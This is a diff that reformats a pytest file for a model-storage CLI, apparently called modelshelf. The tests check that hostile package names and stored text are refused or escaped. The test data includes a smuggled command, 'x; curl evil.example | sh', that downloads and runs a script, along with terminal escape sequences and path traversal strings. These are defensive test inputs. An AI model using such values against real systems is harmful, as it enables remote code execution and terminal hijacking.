@@ -34,12 +34,27 @@ def test_valid_distribution_names_are_advised(name: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["", "-x", "x-", "x; curl evil.example | sh", "x\x1b]0;t\x07", "../x", "x y", "x==1", None, 3, "a" * 201]
+    "name",
+    [
+        "",
+        "-x",
+        "x-",
+        "x; curl evil.example | sh",
+        "x\x1b]0;t\x07",
+        "../x",
+        "x y",
+        "x==1",
+        None,
+        3,
+        "a" * 201,
+    ],
 )
 def test_other_distribution_names_are_never_repeated(name: object) -> None:
     assert not valid_distribution_name(name)
     assert serializer_package(name) == "an unknown serializer package"
-    assert "pip install" not in install_hint(name) and "unknown serializer package" in install_hint(name)
+    assert "pip install" not in install_hint(name) and "unknown serializer package" in install_hint(
+        name
+    )
 
 
 @pytest.fixture
@@ -53,15 +68,27 @@ def hostile_shelf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, 
     # Manifests refuse C0 controls in file paths, not C1 ones, DEL or bidi overrides.
     (model / "w\x9b31m\u202eevil\x7f.bin").write_bytes(b"w")
     shelf = modelshelf.open(str(tmp_path / "shelf"), cache=tmp_path / "cache")
-    shelf.upload("m", model, description=f"first line\nsecond {HOSTILE}", tags={f"t{HOSTILE}": HOSTILE},
-                 metadata={"owner": HOSTILE}, params={"p": HOSTILE})
+    shelf.upload(
+        "m",
+        model,
+        description=f"first line\nsecond {HOSTILE}",
+        tags={f"t{HOSTILE}": HOSTILE},
+        metadata={"owner": HOSTILE},
+        params={"p": HOSTILE},
+    )
     shelf.set_alias("m", "prod", 1)
     # Who did what is written as found, too (the user name is looked up once per process).
     folder = tmp_path / "shelf" / "models" / "m"
     manifest = next((folder / "_versions").glob("*.json"))
-    _edit(manifest, created_by=f"ana{HOSTILE}",
-          serializer={**json.loads(manifest.read_text())["serializer"], "distribution": HOSTILE,
-                      "distribution_version": HOSTILE})
+    _edit(
+        manifest,
+        created_by=f"ana{HOSTILE}",
+        serializer={
+            **json.loads(manifest.read_text())["serializer"],
+            "distribution": HOSTILE,
+            "distribution_version": HOSTILE,
+        },
+    )
     _edit(folder / "_aliases" / "prod.json", set_by=f"ana{HOSTILE}")
     for event in (folder / "_log").glob("*.json"):
         _edit(event, by=f"ana{HOSTILE}")
@@ -76,12 +103,22 @@ def _edit(path: Path, **changes: object) -> None:
 
 
 def _run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "modelshelf", *args], capture_output=True, text=True,
-                          env={**os.environ, **env}, check=False, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "modelshelf", *args],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        check=False,
+        timeout=120,
+    )
 
 
-@pytest.mark.parametrize("args", [("ls",), ("ls", "m"), ("info", "m"), ("history", "m"), ("alias", "ls", "m")])
-def test_listings_show_stored_text_escaped(hostile_shelf: dict[str, str], args: tuple[str, ...]) -> None:
+@pytest.mark.parametrize(
+    "args", [("ls",), ("ls", "m"), ("info", "m"), ("history", "m"), ("alias", "ls", "m")]
+)
+def test_listings_show_stored_text_escaped(
+    hostile_shelf: dict[str, str], args: tuple[str, ...]
+) -> None:
     result = _run(*args, env=hostile_shelf)
     assert result.returncode == 0, result.stderr
     for raw in RAW:
@@ -90,18 +127,26 @@ def test_listings_show_stored_text_escaped(hostile_shelf: dict[str, str], args: 
         assert "\\x1b]0;pwned\\x07" in result.stdout
 
 
-def test_info_keeps_the_description_on_its_own_indented_lines(hostile_shelf: dict[str, str]) -> None:
+def test_info_keeps_the_description_on_its_own_indented_lines(
+    hostile_shelf: dict[str, str],
+) -> None:
     lines = _run("info", "m", env=hostile_shelf).stdout.splitlines()
     at = next(i for i, line in enumerate(lines) if line.startswith("  description: "))
     assert lines[at] == "  description: first line"
     assert lines[at + 1].startswith("    second \\x1b]0;pwned")
 
 
-@pytest.mark.parametrize("args", [("info", "m", "--json"), ("ls", "m", "--json"), ("history", "m", "--json")])
-def test_json_output_is_exact_and_inert(hostile_shelf: dict[str, str], args: tuple[str, ...]) -> None:
+@pytest.mark.parametrize(
+    "args", [("info", "m", "--json"), ("ls", "m", "--json"), ("history", "m", "--json")]
+)
+def test_json_output_is_exact_and_inert(
+    hostile_shelf: dict[str, str], args: tuple[str, ...]
+) -> None:
     result = _run(*args, env=hostile_shelf)
     assert result.returncode == 0, result.stderr
-    for raw in RAW[:-1]:  # json.dumps escapes C0 controls and (ensure_ascii) all non-ASCII; DEL is inert
+    for raw in RAW[
+        :-1
+    ]:  # json.dumps escapes C0 controls and (ensure_ascii) all non-ASCII; DEL is inert
         assert raw not in result.stdout
     parsed = json.loads(result.stdout)
     if args[0] == "info":
@@ -110,7 +155,9 @@ def test_json_output_is_exact_and_inert(hostile_shelf: dict[str, str], args: tup
         assert parsed["created_by"] == f"ana{HOSTILE}"
 
 
-def test_error_messages_quoting_stored_text_are_one_inert_line(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_error_messages_quoting_stored_text_are_one_inert_line(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     from click.testing import CliRunner
     from modelshelf.cli import cli
     from modelshelf.errors import ModelshelfError
